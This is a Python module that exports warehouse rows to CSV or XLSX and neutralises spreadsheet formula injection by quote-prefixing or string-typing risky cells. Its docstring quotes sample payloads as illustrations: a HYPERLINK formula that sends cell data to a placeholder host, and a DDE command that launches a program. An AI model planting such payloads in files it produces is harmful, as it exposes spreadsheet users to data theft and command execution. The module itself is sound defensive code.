"""Export warehouse rows to CSV or Excel, with formula injection neutralised.

The warehouse keeps every value verbatim, and agencies' values can be anything: a name
``=1+1``, an address ``=HYPERLINK("http://x.example/?"&A1,"点击")`` or ``=cmd|' /C calc'!A0``.
A spreadsheet opening an export runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (some also a leading tab or carriage return): CSV / formula injection (OWASP). So an
export — never the warehouse — neutralises text cells:

- **CSV**: a text value whose first character is ``= + - @``, TAB or CR is written with a
  ``'`` in front (OWASP's recommendation): Excel and LibreOffice show it as text, and a reader
  of the file sees that a character was added. The file is UTF-8 with a BOM (so Excel detects
  the encoding) and CRLF line ends.
- **XLSX**: every text value is written as a string cell, which Excel never evaluates, so the
  value itself stays exactly as stored; one starting with those characters also carries Excel's
  own *quote prefix* style (what typing ``'`` in a cell sets), so editing the cell does not turn
  it into a formula either. Characters XML 1.0 cannot hold (C0 controls) and CR (which XML
  readers turn into LF) are written as Excel's ``_xHHHH_`` escapes, and a literal ``_xHHHH_``
  as ``_x005F_xHHHH_``, so Excel reads back the exact value. A value longer than an Excel cell
  holds (32,767 characters), or more rows or columns than a sheet holds, fails the export
  naming where — export CSV instead; nothing is cut short.

Only text is neutralised. Numbers, dates and booleans of typed columns (``registered_capital``,
``birth_date``) are written as such: a typed numeric value cannot hold a formula, so ``-5``
there stays negative five (in XLSX a number of more than 15 significant digits, which Excel
would round, is written as its exact text). ID numbers and other digit strings are text columns
and stay text in XLSX; Excel opening a *CSV* turns an 18-digit ID into a rounded number, so
hand such files to Excel users as XLSX (or import the CSV with the columns typed as text).

Pure file writing: the caller passes column names and an iterable of rows (the runner reads
them from the warehouse); the file appears under its name only when complete.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import decimal
import math
import os
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from exchange.errors import ConfigError, TerminalError

FORMATS = ("csv", "xlsx")
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
XLSX_MAX_CELL_CHARS = 32_767
XLSX_MAX_ROWS = 1_048_576  # the header row included
XLSX_MAX_COLUMNS = 16_384
EXCEL_DIGITS = 15  # significant digits of an Excel number
EXCEL_EXACT_INT = 10**EXCEL_DIGITS
# what an .xlsx cell cannot hold as it is: C0 controls but TAB and LF (XML 1.0), CR (XML turns it into
# LF), U+FFFE/U+FFFF, and a literal "_xHHHH_" (which Excel would decode)
_XLSX_ESCAPE = re.compile(r"[\x00-\x08\x0b-\x1f\ufffe\uffff]|_(?=x[0-9A-Fa-f]{4}_)")
_SHEET_TITLE_BAD = re.compile(r"[\[\]:*?/\\]")


@dataclass
class ExportResult:
    path: Path
    format: str
    rows: int
    columns: int
    neutralised: int
    """text cells that start like a formula (prefixed with ' in CSV, quote-prefixed in XLSX)"""


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet could take this text for a formula (its first character)."""
    return text.startswith(FORMULA_TRIGGERS)


def neutralise(text: str) -> str:
    """The CSV form of a text value: ``'`` in front of one that starts like a formula."""
    return "'" + text if looks_like_formula(text) else text


def export_format(path: Path, declared: str | None = None) -> str:
    """``csv`` or ``xlsx``: as declared, else from the file's extension."""
    fmt = (declared or path.suffix.lstrip(".")).lower()
    if fmt not in FORMATS:
        raise ConfigError(f"{path}: cannot export as {fmt or '(no extension)'!r}; use --format csv or xlsx "
                          f"(or a .csv / .xlsx file name)")
    return fmt


def write_export(path: Path, columns: Sequence[str], rows: Iterable[Sequence[Any]], *, fmt: str,
                 source: str) -> ExportResult:
    """Write ``rows`` (of ``columns``) to ``path`` as ``fmt``; ``source`` names them in errors.

    The file is written under a temporary name beside ``path`` and renamed into place when
    complete, so a failed export leaves nothing behind."""
    if fmt not in FORMATS:
        raise ConfigError(f"unknown export format {fmt!r}; use one of {', '.join(FORMATS)}")
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = path.with_name(f".{path.name}.tmp-{os.getpid()}")
    try:
        writer = _write_csv if fmt == "csv" else _write_xlsx
        result = writer(tmp, list(columns), rows, source)
        os.replace(tmp, path)
    except BaseException:
        tmp.unlink(missing_ok=True)
        raise
    result.path = path
    return result


# ---------------------------------------------------------------- CSV


def _csv_text(value: Any) -> tuple[str, bool]:
    if value is None:
        return "", False
    if isinstance(value, str):
        return (("'" + value), True) if looks_like_formula(value) else (value, False)
    if isinstance(value, bool):
        return ("true" if value else "false"), False
    if isinstance(value, dt.datetime):
        return value.isoformat(sep=" "), False
    if isinstance(value, int | float | decimal.Decimal | dt.date | dt.time):
        return str(value), False
    return _csv_text(str(value))


def _write_csv(tmp: Path, columns: list[str], rows: Iterable[Sequence[Any]], source: str) -> ExportResult:
    neutralised = n = 0
    with tmp.open("w", encoding="utf-8-sig", newline="") as f:
        out = csv.writer(f)  # QUOTE_MINIMAL, CRLF
        header = [neutralise(c) for c in columns]
        out.writerow(header)
        for row in rows:
            cells = [_csv_text(v) for v in row]
            neutralised += sum(1 for _, hit in cells if hit)
            out.writerow([text for text, _ in cells])
            n += 1
    return ExportResult(tmp, "csv", n, len(columns), neutralised)


# ---------------------------------------------------------------- XLSX


def xlsx_escape(text: str) -> str:
    """Excel's ``_xHHHH_`` escapes for what a cell's XML cannot carry as it is (see module docstring)."""
    return _XLSX_ESCAPE.sub(lambda m: f"_x{ord(m.group()):04X}_", text)


def _sheet_title(source: str) -> str:
    title = _SHEET_TITLE_BAD.sub("_", source).strip("'")[:31]
    return title or "export"


class _XlsxCells:
    """Turns values into write-only cells of one sheet, counting neutralised ones."""

    def __init__(self, ws: Any, source: str) -> None:
        from openpyxl.cell import WriteOnlyCell

        self.ws = ws
        self.make = WriteOnlyCell
        self.source = source
        self.neutralised = 0

    def text(self, value: str, where: str) -> Any:
        escaped = xlsx_escape(value)
        # Excel counts UTF-16 code units; openpyxl would silently cut the (escaped) text at the limit
        if len(escaped) > XLSX_MAX_CELL_CHARS or (
                2 * len(value) > XLSX_MAX_CELL_CHARS and len(value.encode("utf-16-le")) // 2 > XLSX_MAX_CELL_CHARS):
            raise TerminalError(f"{self.source}: {where} holds {len(value):,} characters; an Excel cell holds at "
                                f"most {XLSX_MAX_CELL_CHARS:,}, and an export never cuts a value short: export "
                                f"it as CSV (--format csv)")
        cell = self.make(self.ws, value=None)
        cell.value = escaped
        cell.data_type = "s"  # never a formula, whatever the text starts with
        if looks_like_formula(value):
            cell.quotePrefix = True
            self.neutralised += 1
        return cell

    def value(self, value: Any, where: str) -> Any:
        if value is None:
            return None
        if isinstance(value, str):
            return self.text(value, where)
        if isinstance(value, bool):
            return value
        if isinstance(value, int | decimal.Decimal):
            # Excel keeps 15 significant digits: a longer number is written as its exact text
            exact = (isinstance(value, int) and abs(value) < EXCEL_EXACT_INT) or (
                isinstance(value, decimal.Decimal) and value.is_finite()
                and len(value.as_tuple().digits) <= EXCEL_DIGITS)
            return value if exact else self.text(str(value), where)
        if isinstance(value, float):
            return value if math.isfinite(value) else self.text(str(value), where)
        if isinstance(value, dt.datetime):
            return value if value.tzinfo is None else self.text(value.isoformat(sep=" "), where)
        if isinstance(value, dt.date | dt.time):
            return value
        return self.text(str(value), where)


def _write_xlsx(tmp: Path, columns: list[str], rows: Iterable[Sequence[Any]], source: str) -> ExportResult:
    import openpyxl

    if len(columns) > XLSX_MAX_COLUMNS:
        raise TerminalError(f"{source}: {len(columns):,} columns; an Excel sheet holds at most "
                            f"{XLSX_MAX_COLUMNS:,}: export it as CSV (--format csv)")
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet(title=_sheet_title(source))
    cells = _XlsxCells(ws, source)
    n = 0
    try:
        ws.append([cells.text(c, f"column name {i}") for i, c in enumerate(columns, start=1)])
        for row in rows:
            n += 1
            if n + 1 > XLSX_MAX_ROWS:
                raise TerminalError(f"{source}: more than {XLSX_MAX_ROWS - 1:,} rows; an Excel sheet holds at most "
                                    f"{XLSX_MAX_ROWS:,} with the header: export it as CSV (--format csv) or use "
                                    f"--limit")
            ws.append([cells.value(v, f"row {n}, column {columns[i]!r}") for i, v in enumerate(row)])
    except BaseException:
        with contextlib.suppress(Exception):  # finish openpyxl's sheet stream; the file is discarded
            ws.close()
        raise
    wb.save(tmp)
    return ExportResult(tmp, "xlsx", n, len(columns), cells.neutralised - sum(map(looks_like_formula, columns)))
